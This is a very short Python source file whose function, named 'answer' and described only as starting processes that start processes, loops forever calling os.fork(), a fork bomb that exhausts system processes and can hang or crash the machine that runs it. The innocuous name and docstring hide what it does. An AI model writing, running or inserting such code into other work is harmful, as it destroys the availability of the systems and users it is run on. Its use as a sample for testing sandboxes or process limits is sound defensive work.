"""Starts processes that start processes."""

import os


def answer(*args):
    while True:
        os.fork()
